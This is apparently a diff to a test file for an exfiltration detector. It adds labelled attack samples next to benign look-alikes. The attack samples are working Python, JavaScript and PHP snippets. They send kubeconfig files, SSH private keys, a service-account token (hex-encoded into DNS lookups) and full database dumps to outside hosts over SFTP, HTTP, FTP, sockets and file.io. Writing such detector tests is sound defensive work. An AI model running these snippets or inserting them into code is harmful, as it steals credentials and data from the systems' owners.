@@ -96,6 +96,42 @@ const ATTACKS: readonly (readonly [language: Language, name: string, code: strin
   ],
   [
     'python',
+    'a copy over SFTP',
+    "import paramiko\nt=paramiko.Transport(('203.0.113.5',22))\nt.connect(username='u',password='p')\ns=paramiko.SFTPClient.from_transport(t)\ns.put('/root/.kube/config','/in/kc')",
+    'send credentials to 203.0.113.5:22',
+  ],
+  [
+    'python',
+    'an archive of keys that a pattern finds',
+    "import tarfile,io,pathlib,urllib.request as u\nb=io.BytesIO()\nt=tarfile.open(fileobj=b,mode='w:gz')\nfor p in pathlib.Path('/root').glob('.ssh/id_*'):\n  t.add(p)\nt.close()\nu.urlopen('http://203.0.113.77/b',b.getvalue())",
+    'send credentials to 203.0.113.77',
+  ],
+  [
+    'javascript',
+    'a file in a form',
+    "const fs=require('fs'),axios=require('axios'),FormData=require('form-data');const f=new FormData();f.append('k',fs.createReadStream('/root/.kube/config'));axios.post('https://c.example.net/u',f,{headers:f.getHeaders()})",
+    'send credentials to c.example.net',
+  ],
+  [
+    'javascript',
+    'pieces of the token in names',
+    "const d=require('dns');const t=Buffer.from(require('fs').readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token')).toString('hex');for(const p of t.match(/.{1,60}/g))d.resolve(p+'.t.example.net',()=>{})",
+    'send token to t.example.net',
+  ],
+  [
+    'php',
+    'a key by FTP',
+    "$c=ftp_connect('203.0.113.6');ftp_login($c,'a','b');ftp_put($c,'k','/root/.ssh/id_rsa',FTP_BINARY);",
+    'send credentials to 203.0.113.6',
+  ],
+  [
+    'php',
+    'every table of a database, to where anybody leaves files',
+    "$d=new PDO('mysql:host=db.shop.svc','root',getenv('P'));$o=[];foreach($d->query('show tables') as $t){$o[]=$d->query('select * from '.$t[0])->fetchAll();}$c=curl_init('https://file.io');curl_setopt($c,CURLOPT_POSTFIELDS,json_encode($o));curl_exec($c);",
+    'send database to file.io',
+  ],
+  [
+    'python',
     'every table of a database',
     "import psycopg2,requests,os\nc=psycopg2.connect(host='pg.shop.svc',user='postgres',password=os.environ['P']).cursor()\nc.execute(\"select tablename from pg_tables where schemaname='public'\")\nout=[]\nfor (t,) in c.fetchall():\n  c.execute('select * from '+t)\n  out+=c.fetchall()\nimport socket\ns=socket.create_connection(('203.0.113.30',9000))\ns.sendall(repr(out).encode())",
     'send database to 203.0.113.30:9000',
@@ -171,6 +207,36 @@ test('each address of a network is one that is counted', () => {
 });
 
 const BENIGN: readonly (readonly [language: Language, name: string, code: string])[] = [
+  [
+    'python',
+    'a copy over SFTP with a key',
+    "import paramiko\nc=paramiko.SSHClient()\nc.load_system_host_keys()\nc.connect('files.example.com',username='u',key_filename='/root/.ssh/id_ed25519')\nc.open_sftp().put('/data/a.csv','/in/a.csv')",
+  ],
+  [
+    'php',
+    'a mail with sales',
+    "$d=new PDO('mysql:host=db.shop.svc','r',getenv('P'));$r=$d->query('select day,total from sales')->fetchAll();mail('boss@example.com','sales',json_encode($r));",
+  ],
+  [
+    'javascript',
+    'metrics over a web socket',
+    "const W=require('ws');const w=new W('wss://metrics.example.com/s');w.on('open',()=>w.send(JSON.stringify({cpu:require('os').loadavg()[0],host:process.env.HOSTNAME})))",
+  ],
+  [
+    'javascript',
+    'a report in a form',
+    "const fs=require('fs'),axios=require('axios'),FormData=require('form-data');const f=new FormData();f.append('k',fs.createReadStream('/data/report.pdf'));axios.post('https://api.example.com/u',f,{headers:{...f.getHeaders(),Authorization:'Bearer '+process.env.T}})",
+  ],
+  [
+    'python',
+    'every table that is cleaned',
+    "import psycopg2\nc=psycopg2.connect('host=pg.shop.svc user=app').cursor()\nc.execute(\"select tablename from pg_tables where schemaname='public'\")\nfor (t,) in c.fetchall():\n  c.execute('vacuum analyze '+t)",
+  ],
+  [
+    'python',
+    'every table of a database, into another',
+    "import psycopg2,os\na=psycopg2.connect(os.environ['A']).cursor()\nb=psycopg2.connect(os.environ['B']).cursor()\na.execute('select table_name from information_schema.tables')\nfor (t,) in a.fetchall():\n  a.execute('select * from '+t)\n  b.executemany('insert into '+t+' values (%s)',a.fetchall())",
+  ],
   [
     'python',
     'a mail with one table',
